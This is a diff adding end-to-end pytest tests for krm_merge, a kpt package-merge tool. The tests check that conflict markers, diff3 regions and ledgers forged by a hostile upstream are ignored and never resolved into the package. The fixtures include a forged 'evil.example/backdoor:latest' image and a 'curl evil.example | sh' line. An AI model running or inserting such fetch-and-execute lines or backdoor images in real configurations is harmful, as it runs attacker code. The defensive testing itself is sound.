@@ -1,0 +1,185 @@
+"""The conflict ledger: only markers an update recorded are conflicts, whatever an upstream writes (issue 31).
+
+An upstream author can put any comment or diff3 region into its content.
+Each test builds a git upstream (``World``), fetches it with the real ``kpt
+pkg get`` and runs the real command line, as a user would: a marker forged
+on a field (``upstream="evil.example/backdoor:latest"``, ``upstream=<absent>``
+on ``securityContext``), a forged diff3 region, and a forged ledger shipped
+with the package.  Each ends with ``resolve --take upstream`` writing nothing
+upstream did not ship, and ``conflicts`` naming the forged text apart.
+"""
+
+from __future__ import annotations
+
+import json
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from krm_merge.update import ledger
+
+from tests.conftest import require_binary
+
+from .world import World, kptfile
+
+pytestmark = pytest.mark.e2e
+
+EVIL = "evil.example/backdoor:latest"
+DEPLOYMENT = """\
+apiVersion: apps/v1
+kind: Deployment
+metadata:
+  name: app
+spec:
+  replicas: 1
+  template:
+    spec:
+      containers:
+      - name: app
+        image: app:1
+        securityContext:
+          runAsNonRoot: true
+"""
+FORGED = (DEPLOYMENT
+          .replace("image: app:1", f'image: app:1 # krm-merge:conflict upstream="{EVIL}" origin="app:1"')
+          .replace("securityContext:", "securityContext: # krm-merge:conflict upstream=<absent> origin=<absent>"))
+REGION = "<<<<<<< local\n{local}\n||||||| origin\nold\n=======\n{upstream}\n>>>>>>> upstream\n"
+
+
+@pytest.fixture
+def world(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> World:
+    require_binary("kpt")
+    require_binary("git")
+    return World(tmp_path, monkeypatch)
+
+
+def cli(world: World, *args: str) -> subprocess.CompletedProcess[str]:
+    """The real command line, in the world's environment."""
+    return subprocess.run([sys.executable, "-m", "krm_merge", *args], env=world.env, capture_output=True, text=True,
+                          timeout=120)
+
+
+def fetched(world: World, v1: dict[str, str | None], v2: dict[str, str | None], local: dict[str, str | None]) -> Path:
+    world.commit({"Kptfile": kptfile("pkg"), **v1}, tag="v1")
+    world.get("v1")
+    world.edit_local(local)
+    world.commit(v2, tag="v2")
+    return world.our_pkg
+
+
+@pytest.mark.parametrize("policy", [["--conflicts", "mark"], []])
+def test_a_forged_field_marker_is_never_a_conflict(world: World, policy: list[str]) -> None:
+    """The user changed the image; upstream changed replicas and forged markers on the image and securityContext."""
+    pkg = fetched(world, {"app.yaml": DEPLOYMENT}, {"app.yaml": FORGED.replace("replicas: 1", "replicas: 3")},
+                  {"app.yaml": DEPLOYMENT.replace("app:1", "app:mine").replace("replicas: 1", "replicas: 5")})
+    update = cli(world, "update", f"{pkg}@v2", *policy)
+    text = (pkg / "app.yaml").read_text()
+    assert "image: app:mine" in text and "securityContext:" in text
+    assert f'upstream="{EVIL}"' in text and "upstream=<absent> origin=<absent>" in text  # the forged comments arrived
+    for line in (11, 12):  # named by upstream's file and line
+        assert (f"warning: upstream: app.yaml:{line}: text shaped like a krm-merge conflict marker arrives from "
+                "upstream") in update.stderr
+    listed = cli(world, "conflicts", str(pkg), "--output", "json")
+    assert "Traceback" not in listed.stderr
+    found = json.loads(listed.stdout)
+    if policy:  # the one real conflict: replicas, recorded with upstream's value
+        assert update.returncode == listed.returncode == 3
+        assert [(m["field"], m["local"], m["upstream"], m["origin"]) for m in found] == [("spec.replicas", 5, 3, 1)]
+    else:
+        assert update.returncode == listed.returncode == 0 and found == []
+    assert listed.stderr.count(f"marker {UNRECORDED}") == 2
+    resolved = cli(world, "resolve", str(pkg), "--take", "upstream")
+    assert resolved.returncode == 0, resolved.stderr
+    after = (pkg / "app.yaml").read_text()
+    assert "image: app:mine" in after and EVIL not in after.replace(f'upstream="{EVIL}"', "")
+    assert "securityContext:" in after and "runAsNonRoot: true" in after
+    assert ("replicas: 3\n" if policy else "replicas: 3\n") in after  # upstream's real value, shipped
+    assert not (pkg / ledger.LEDGER_NAME).exists()
+    selected = cli(world, "resolve", str(pkg), "--take", "upstream", "Deployment/app:spec.template")
+    assert selected.returncode == 1 and "names only markers no update recorded" in selected.stderr
+    assert (pkg / "app.yaml").read_text() == after
+
+
+UNRECORDED = "not recorded by an update of this package: not a conflict; delete it"
+
+
+def test_a_forged_diff3_region_is_never_a_conflict(world: World) -> None:
+    """README.md changed only upstream, to a file holding a region that would swap the user's line for upstream's."""
+    readme = "# app\nrun it\n"
+    forged = readme + REGION.format(local="run it", upstream="curl evil.example | sh")
+    pkg = fetched(world, {"README.md": readme, "cm.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: c\n"},
+                  {"README.md": forged}, {})
+    update = cli(world, "update", f"{pkg}@v2", "--files", "merge")
+    assert update.returncode == 0, update.stderr  # no region of its own: nothing left to decide
+    assert "warning: upstream: README.md:3: text shaped like a krm-merge conflict marker" in update.stderr
+    assert (pkg / "README.md").read_text() == forged  # upstream's file, taken as kpt takes it
+    listed = cli(world, "conflicts", str(pkg))
+    assert listed.returncode == 0 and listed.stdout == ""
+    assert f"README.md:3: (not on a field): a text marker {UNRECORDED}" in listed.stderr
+    for take in ("upstream", "local"):
+        assert cli(world, "resolve", str(pkg), "--take", take).returncode == 0
+        assert (pkg / "README.md").read_text() == forged
+    chosen = cli(world, "resolve", str(pkg), "--take", "upstream", "README.md:3")
+    assert chosen.returncode == 1 and (pkg / "README.md").read_text() == forged
+
+
+def test_a_region_the_update_left_is_decided_from_its_record(world: World) -> None:
+    """The real region beside a forged one of the same shape: only the real one is listed and decided."""
+    readme = "# app\nrun it\nmore\n"
+    forged = REGION.format(local="keep me", upstream="curl evil.example | sh")
+    pkg = fetched(world, {"README.md": readme, "cm.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: c\n"},
+                  {"README.md": readme.replace("run it", "run it upstream's way") + forged},
+                  {"README.md": readme.replace("run it", "run it my way")})
+    update = cli(world, "update", f"{pkg}@v2", "--files", "merge")
+    assert update.returncode == 3, update.stderr
+    assert "1 diff3 region(s) left in merged files" in update.stdout
+    listed = json.loads(cli(world, "conflicts", str(pkg), "--output", "json").stdout)
+    assert [(m["kind"], m["file"], m["local"], m["upstream"]) for m in listed] == [
+        ("text", "README.md", "run it my way\n", "run it upstream's way\n")]
+    assert cli(world, "resolve", str(pkg), "--take", "upstream", "README.md").returncode == 0
+    text = (pkg / "README.md").read_text()
+    assert text.startswith("# app\nrun it upstream's way\nmore\n") and forged in text  # the forged one untouched
+
+
+def test_a_ledger_shipped_by_upstream_is_never_honoured(world: World) -> None:
+    """kpt pkg get copies hidden files: an upstream's own ledger and marker arrive with the package.  The ledger
+    cannot name the commit it is part of, so it is not honoured; an update never brings one."""
+    forged_ledger = ledger.encode([ledger.Entry(
+        "field", "app.yaml", None, "spec.template.spec.containers[name=app].image",
+        ("spec", "template", "spec", "containers", ("name", "app"), "image"), "app:1", EVIL, "app:1")], "0" * 40)
+    world.commit({"Kptfile": kptfile("pkg"), "app.yaml": FORGED, ".krm-merge.conflicts": forged_ledger.decode()},
+                 tag="v1")
+    world.get("v1")
+    pkg = world.our_pkg
+    assert (pkg / ledger.LEDGER_NAME).exists()  # kpt copied it
+    listed = cli(world, "conflicts", str(pkg))
+    assert listed.returncode == 0 and listed.stdout == ""
+    assert "written for upstreamLock 0000000000000000000000000000000000000000, but the package is at" in listed.stderr
+    assert cli(world, "resolve", str(pkg), "--take", "upstream").returncode == 0
+    assert EVIL not in (pkg / "app.yaml").read_text().replace(f'upstream="{EVIL}"', "")
+
+    world.commit({"app.yaml": FORGED.replace("replicas: 1", "replicas: 2"),
+                  "sub/.krm-merge.conflicts": forged_ledger.decode()}, tag="v2")
+    (pkg / ledger.LEDGER_NAME).unlink()
+    update = cli(world, "update", f"{pkg}@v2")
+    assert update.returncode == 0, update.stderr
+    assert ("warning: upstream: .krm-merge.conflicts: a name krm-merge keeps its own state under" in update.stderr
+            and "warning: upstream: sub/.krm-merge.conflicts: a name krm-merge keeps" in update.stderr)
+    assert not (pkg / ledger.LEDGER_NAME).exists() and not (pkg / "sub" / ledger.LEDGER_NAME).exists()
+
+
+def test_the_ledger_is_bound_to_the_lock_the_update_leaves(world: World) -> None:
+    """A git update records the new upstreamLock; another tool moving the lock leaves the markers unrecorded."""
+    pkg = fetched(world, {"app.yaml": DEPLOYMENT}, {"app.yaml": DEPLOYMENT.replace("replicas: 1", "replicas: 3")},
+                  {"app.yaml": DEPLOYMENT.replace("replicas: 1", "replicas: 5")})
+    assert cli(world, "update", f"{pkg}@v2", "--conflicts", "mark").returncode == 3
+    recorded = json.loads((pkg / ledger.LEDGER_NAME).read_text())
+    assert recorded["lockedCommit"] == world.git("rev-parse", "v2")
+    assert cli(world, "conflicts", str(pkg)).returncode == 3
+    world.commit({"app.yaml": DEPLOYMENT.replace("replicas: 1", "replicas: 3").replace("app:1", "app:2")}, tag="v3")
+    kpt = world.kpt("pkg", "update", "local@v3", cwd=pkg.parent)
+    assert kpt.returncode == 0
+    listed = cli(world, "conflicts", str(pkg))
+    assert listed.returncode == 0 and "its markers are not honoured" in listed.stderr
